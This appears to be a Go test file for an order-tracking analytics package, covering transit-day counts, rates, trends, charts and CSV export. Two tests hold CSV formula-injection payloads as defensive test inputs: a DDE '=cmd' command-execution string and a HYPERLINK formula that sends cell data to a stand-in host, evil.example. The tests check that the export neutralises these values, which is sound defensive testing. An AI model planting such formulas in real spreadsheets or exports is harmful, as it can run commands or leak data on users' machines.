package analytics

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ordertrack/ordertrack/storage"
)

func nov(d int) time.Time { return time.Date(2026, 11, d, 0, 0, 0, 0, time.UTC) }

var november = Range{First: nov(1), Last: nov(30)}

// sample is a month in which UPS and USPS each carry parcels across
// Veterans Day (11 Nov 2026, a Wednesday): USPS closes on it, UPS does not.
func sample() storage.AnalyticsData {
	return storage.AnalyticsData{
		Lanes: []storage.LaneGroup{
			{Carrier: "ups", Service: "Ground", DestCountry: "US", DestRegion: "CA", ShippedOn: nov(2), DeliveredOn: nov(5),
				Counts: storage.Counts{Shipments: 3, Delivered: 3, Promised: 3, OnTime: 3}, PageViews: 6, Viewed: 2},
			{Carrier: "ups", Service: "Ground", DestCountry: "US", DestRegion: "NY", ShippedOn: nov(10), DeliveredOn: nov(12),
				Counts: storage.Counts{Shipments: 1, Delivered: 1, Promised: 1, Delayed: 1}, PageViews: 4, Viewed: 1},
			{Carrier: "usps", DestCountry: "US", DestRegion: "NY", ShippedOn: nov(10), DeliveredOn: nov(12),
				Counts: storage.Counts{Shipments: 2, Delivered: 2, Promised: 2, OnTime: 1, Delayed: 1}},
			{Carrier: "usps", DestCountry: "US", Counts: storage.Counts{Shipments: 2, Delayed: 1}, PageViews: 2, Viewed: 2},
		},
		Problems: []storage.ProblemCount{
			{Carrier: "ups", Problem: "exception", Shipments: 1},
			{Carrier: "usps", Problem: "failed_attempt", Shipments: 2},
			{Carrier: "usps", Problem: "action_required", Shipments: 1},
		},
		Stages: []storage.ProblemStage{
			{Stage: "out_for_delivery", Problem: "failed_attempt", Shipments: 2},
			{Stage: "in_transit", Problem: "exception", Shipments: 1},
		},
		Messages: []storage.MessageCount{
			{Channel: "email", Status: "sent", N: 4}, {Channel: "email", Status: "delivered", N: 3},
			{Channel: "email", Status: "opened", N: 3}, {Channel: "sms", Status: "failed", N: 1},
			{Channel: "sms", Status: "delivered", N: 3}, {Channel: "sms", Status: "skipped", N: 9},
		},
		Contacts:     storage.Contacts{Actions: 3, Shipments: 2},
		LaneContacts: []storage.LaneContacts{{Carrier: "ups", DestCountry: "US", DestRegion: "CA", Contacts: storage.Contacts{Actions: 3, Shipments: 2}}},
		Days: []storage.DayCount{
			{Day: nov(2), Counts: storage.Counts{Shipments: 3, Delivered: 3, Promised: 3, OnTime: 3}},
			{Day: nov(10), Counts: storage.Counts{Shipments: 5, Delivered: 3, Promised: 3, OnTime: 1, Delayed: 3}},
		},
	}
}

func TestComputeCountsBusinessDaysOnEachCarriersCalendar(t *testing.T) {
	r := Compute(sample(), november)
	tests := []struct {
		name string
		g    Group
		want map[int]int64 // business days → deliveries
	}{
		{"all", r.Total, map[int]int64{3: 3, 2: 1, 1: 2}},
		{"ups works on Veterans Day", r.Carriers[0], map[int]int64{3: 3, 2: 1}},
		{"usps does not", r.Carriers[1], map[int]int64{1: 2}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := map[int]int64{}
			for d, n := range tt.g.Transit {
				if n > 0 {
					got[d] = n
				}
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("transit of %s = %v, want %v", tt.g.Key, got, tt.want)
			}
		})
	}
}

func TestComputeRates(t *testing.T) {
	r := Compute(sample(), november)
	tests := []struct {
		name      string
		got, want float64
	}{
		{"total on time", r.Total.OnTimeRate(), 4.0 / 6},
		{"total delay", r.Total.DelayRate(), 3.0 / 8},
		{"total exception", r.Total.ExceptionRate(), 1.0 / 8},
		{"total failed attempt", r.Total.FailedAttemptRate(), 2.0 / 8},
		{"total views per shipment", r.Total.ViewsPerShipment(), 12.0 / 8},
		{"total mean transit", r.Total.MeanTransit(), (3*3 + 2 + 2*1) / 6.0},
		{"ups on time", r.Carriers[0].OnTimeRate(), 3.0 / 4},
		{"usps on time", r.Carriers[1].OnTimeRate(), 1.0 / 2},
		{"usps failed attempt", r.Carriers[1].FailedAttemptRate(), 2.0 / 4},
		{"contact rate", r.ContactRate(), 2.0 / 8},
		{"email delivery", r.Channels[0].DeliveryRate(), 6.0 / 10},
		{"email open", r.Channels[0].OpenRate(), 3.0 / 6},
		{"sms failure", r.Channels[1].FailureRate(), 1.0 / 4},
	}
	for _, tt := range tests {
		if diff := tt.got - tt.want; diff > 1e-9 || diff < -1e-9 {
			t.Errorf("%s = %v, want %v", tt.name, tt.got, tt.want)
		}
	}
}

func TestComputeSplitsByDestinationBiggestFirst(t *testing.T) {
	r := Compute(sample(), november)
	var got []string
	for _, g := range r.Regions {
		got = append(got, g.Key+":"+itoa(g.Shipments)+"/"+itoa(g.OnTime))
	}
	want := []string{"US-CA:3/3", "US-NY:3/1", "US:2/0"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("regions = %v, want %v", got, want)
	}
}

func TestComputeCountsMessagesByFurthestStatus(t *testing.T) {
	got := Compute(sample(), november).Channels
	want := []Channel{{Name: "email", Sent: 10, Delivered: 6, Opened: 3}, {Name: "sms", Sent: 3, Delivered: 3, Failed: 1}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("channels = %+v, want %+v", got, want)
	}
}

func TestComputeOrdersProblemStagesByProgress(t *testing.T) {
	got := Compute(sample(), november).Stages
	if got[0].Stage != "in_transit" || got[1].Stage != "out_for_delivery" {
		t.Errorf("stages = %+v, want in_transit before out_for_delivery", got)
	}
}

func TestTrendHasAPointForEveryPeriod(t *testing.T) {
	tests := []struct {
		name     string
		r        Range
		points   int
		first    time.Time
		shipSums map[time.Time]int64
	}{
		{"daily for a month", november, 30, nov(1), map[time.Time]int64{nov(2): 3, nov(10): 5, nov(3): 0}},
		// 1 Nov 2026 is a Sunday, so its week starts on Monday 26 October.
		{"weekly for a quarter", Range{First: nov(1), Last: nov(1).AddDate(0, 0, 89)}, 14, nov(1).AddDate(0, 0, -6),
			map[time.Time]int64{nov(2): 3, nov(9): 5, nov(1).AddDate(0, 0, -6): 0}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Compute(sample(), tt.r).Trend
			if len(got) != tt.points || !got[0].Start.Equal(tt.first) {
				t.Fatalf("trend has %d points from %s, want %d from %s", len(got), got[0].Start, tt.points, tt.first)
			}
			for _, p := range got {
				if want, ok := tt.shipSums[p.Start]; ok && p.Shipments != want {
					t.Errorf("point %s has %d shipments, want %d", p.Start.Format(time.DateOnly), p.Shipments, want)
				}
			}
		})
	}
}

func TestParseRange(t *testing.T) {
	now := time.Date(2026, 11, 25, 17, 0, 0, 0, time.UTC)
	newYork, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	utc := func(r Range) Range { r.Zone = time.UTC; return r }
	tests := []struct {
		name, from, to string
		now            time.Time
		loc            *time.Location
		want           Range
	}{
		{"defaults to the last 30 days", "", "", now, time.UTC, utc(Range{First: nov(25).AddDate(0, 0, -29), Last: nov(25)})},
		{"explicit", "2026-11-01", "2026-11-30", now, time.UTC, utc(november)},
		{"one day", "2026-11-05", "2026-11-05", now, time.UTC, utc(Range{First: nov(5), Last: nov(5)})},
		{"no zone is UTC", "2026-11-05", "2026-11-05", now, nil, utc(Range{First: nov(5), Last: nov(5)})},
		// 03:00 UTC on the 26th is still the 25th in New York.
		{"today is the shop's", "", "", time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC), newYork,
			Range{First: nov(25).AddDate(0, 0, -29), Last: nov(25), Zone: newYork}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParseRange(tt.from, tt.to, tt.now, tt.loc)
			if err != nil || got != tt.want {
				t.Errorf("ParseRange(%q, %q) = %v, %v; want %v", tt.from, tt.to, got, err, tt.want)
			}
		})
	}
}

func TestParseRangeRejects(t *testing.T) {
	now := time.Date(2026, 11, 25, 17, 0, 0, 0, time.UTC)
	for _, tt := range []struct{ name, from, to string }{
		{"unreadable", "11/01/2026", ""},
		{"reversed", "2026-11-10", "2026-11-01"},
		{"longer than a year", "2025-01-01", "2026-11-01"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := ParseRange(tt.from, tt.to, now, time.UTC); !errors.Is(err, ErrBadRange) {
				t.Errorf("ParseRange(%q, %q) error = %v, want ErrBadRange", tt.from, tt.to, err)
			}
		})
	}
}

func TestTransitPercentile(t *testing.T) {
	var g Group
	g.Transit[1], g.Transit[2], g.Transit[5] = 5, 4, 1
	tests := []struct {
		p    float64
		want int
	}{{0.5, 1}, {0.51, 2}, {0.9, 2}, {0.91, 5}, {1, 5}}
	for _, tt := range tests {
		if got := g.TransitPercentile(tt.p); got != tt.want {
			t.Errorf("TransitPercentile(%v) = %d, want %d", tt.p, got, tt.want)
		}
	}
	if got := (Group{}).TransitPercentile(0.5); got != -1 {
		t.Errorf("TransitPercentile of no deliveries = %d, want -1", got)
	}
}

func TestWriteCSVHasOneMeasurementPerRow(t *testing.T) {
	var buf bytes.Buffer
	if err := Compute(sample(), november).WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if !reflect.DeepEqual(rows[0], CSVHeader) {
		t.Fatalf("header = %v", rows[0])
	}
	index := map[string]string{}
	for _, r := range rows[1:] {
		index[strings.Join(r[:4], "|")] = r[4]
	}
	want := map[string]string{
		"range|||from":               "2026-11-01",
		"range|||zone":               "UTC",
		"summary|all||shipments":     "8",
		"summary|all||contact_rate":  "0.2500",
		"carrier|usps||on_time_rate": "0.5000",
		"region|US-NY||shipments":    "3",
		"transit|usps|1|deliveries":  "2",
		"problem_stage|out_for_delivery|failed_attempt|shipments": "2",
		"channel|email||opened":                                   "3",
		"trend|day|2026-11-10|shipments":                          "5",
	}
	for k, v := range want {
		if index[k] != v {
			t.Errorf("csv %s = %q, want %q", k, index[k], v)
		}
	}
}

func TestChartsScaleToTheirData(t *testing.T) {
	r := Compute(sample(), november)
	transit := TransitChart(r.Total)
	// Bars for 0..5 days; the tallest (3 days, 3 deliveries) fills the plot.
	if len(transit.Bars) != 6 || transit.Bars[3].H != chartH-padTop-padBot || transit.Bars[1].H != transit.Bars[3].H*2/3 {
		t.Errorf("transit bars = %+v", transit.Bars)
	}
	ontime := OnTimeChart(r.Carriers)
	if ontime.Bars[0].Value != "75%" || ontime.Bars[1].W*1.5 != ontime.Bars[0].W {
		t.Errorf("on-time bars = %+v", ontime.Bars)
	}
	trend := TrendChart(r.Trend, r.Interval)
	if len(trend.Bars) != 30 || len(trend.Dots) != 0 || trend.Line != "" || strings.Contains(trend.YTicks[len(trend.YTicks)-1].Label, "%") {
		t.Errorf("trend: %d bars, dots %+v, top tick %q; want 30 bars on a count axis and no rate line", len(trend.Bars), trend.Dots, trend.YTicks[len(trend.YTicks)-1].Label)
	}
	rate := OnTimeTrendChart(r.Trend, r.Interval)
	if len(rate.Bars) != 0 || len(rate.Dots) != 2 || rate.Dots[0].Y != padTop || rate.YTicks[len(rate.YTicks)-1].Label != "100%" {
		t.Errorf("on-time trend: %d bars, dots %+v; want only 2 dots, the first at 100%%, on a %% axis", len(rate.Bars), rate.Dots)
	}
}

// TestCountAxesNeverRepeatALabel: the transit axis once read "1, 0, 0".
func TestCountAxesNeverRepeatALabel(t *testing.T) {
	tests := []struct {
		peak int64
		top  int64
		want string
	}{
		{1, 1, "0 1"},
		{3, 3, "0 1 2 3"},
		{7, 10, "0 5 10"},
		{12, 20, "0 10 20"},
		{480, 500, "0 250 500"},
	}
	for _, tt := range tests {
		top, ticks := countAxis(tt.peak)
		var labels []string
		for _, tk := range ticks {
			labels = append(labels, tk.Label)
		}
		if top != tt.top || strings.Join(labels, " ") != tt.want {
			t.Errorf("countAxis(%d) = %d, %v; want %d, %s", tt.peak, top, labels, tt.top, tt.want)
		}
	}
}

func TestRegionKeyDoesNotRepeatTheCountry(t *testing.T) {
	tests := map[[2]string]string{{"US", "CA"}: "US-CA", {"US", "US-CA"}: "US-CA", {"US", ""}: "US", {"", ""}: "unknown"}
	for in, want := range tests {
		if got := regionKey(in[0], in[1]); got != want {
			t.Errorf("regionKey(%q, %q) = %q; want %q", in[0], in[1], got, want)
		}
	}
}

func TestDeliveryRateIsUnknownWithoutProviderEvents(t *testing.T) {
	if (Channel{Name: "email", Sent: 5}).Reported() {
		t.Error("sent emails with no provider events read as reported")
	}
	if !(Channel{Name: "email", Sent: 5, Failed: 1}).Reported() || !(Channel{Name: "sms", Sent: 5, Delivered: 2}).Reported() {
		t.Error("provider events not seen")
	}
}

func TestTextCellNeutralizesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@x", "'@x"},
		{"\tfoo", "'\tfoo"},
		{"\rfoo", "'\rfoo"},
		{"ups", "ups"},
		{"US-CA", "US-CA"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := textCell(tt.in); got != tt.want {
			t.Errorf("textCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVQuotesFormulasFromOutsideText feeds carrier names and
// wordings that a spreadsheet would run as formulas; the figures we compute
// stay numbers, negative ones included.
func TestWriteCSVQuotesFormulasFromOutsideText(t *testing.T) {
	d := storage.AnalyticsData{
		Lanes: []storage.LaneGroup{
			{Carrier: `=HYPERLINK("http://evil.example/?"&A1)`, DestCountry: "@SUM(1)", ShippedOn: nov(2), DeliveredOn: nov(5),
				Counts: storage.Counts{Shipments: 1, Delivered: 1}},
		},
		Reasons: []storage.ProblemReason{{Problem: "exception", Code: "-2+3", Description: "cmd", Events: 1, Shipments: 1}},
	}
	r := Compute(d, november)
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	seen := map[string]bool{}
	for _, row := range rows {
		for i, cell := range row {
			seen[cell] = true
			if i < len(row)-1 && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %v: text cell %q starts a formula", row, cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1)`, "'@SUM(1)", "'-2+3: cmd"} {
		if !seen[want] {
			t.Errorf("csv lacks the neutralized cell %q:\n%s", want, buf.String())
		}
	}
	// The value column is the report's own numbers: never quoted, so a
	// spreadsheet still sums it.
	for _, row := range rows[1:] {
		if v := row[len(row)-1]; strings.HasPrefix(v, "'") {
			t.Errorf("row %v: value %q was quoted", row, v)
		}
	}
}

// TestTableCSVIsWide: each report downloads as one table, a row per
// carrier (or region, day, channel) and a column per figure.
func TestTableCSVIsWide(t *testing.T) {
	d := sample()
	d.LaneContacts = []storage.LaneContacts{{Carrier: "usps", DestCountry: "US", DestRegion: "NY", Contacts: storage.Contacts{Actions: 3, Shipments: 2}}}
	r := Compute(d, november)
	for _, table := range Tables {
		var b strings.Builder
		if err := r.WriteTableCSV(&b, table); err != nil {
			t.Fatalf("%s: %v", table, err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", table, err)
		}
		for i, row := range rows {
			if len(row) != len(rows[0]) {
				t.Errorf("%s row %d has %d cells; header has %d", table, i, len(row), len(rows[0]))
			}
		}
		if table == "carriers" {
			col := slices.Index(rows[0], "contact_rate")
			var usps []string
			for _, row := range rows[1:] {
				if row[0] == "usps" {
					usps = row
				}
			}
			if rows[0][0] != "carrier" || col < 0 || usps == nil || usps[slices.Index(rows[0], "contacted_shipments")] != "2" {
				t.Errorf("carriers table = %v; want a row per carrier with its contacts", rows)
			}
		}
	}
	if err := r.WriteTableCSV(io.Discard, "nope"); err == nil {
		t.Error("an unknown report wrote")
	}
}
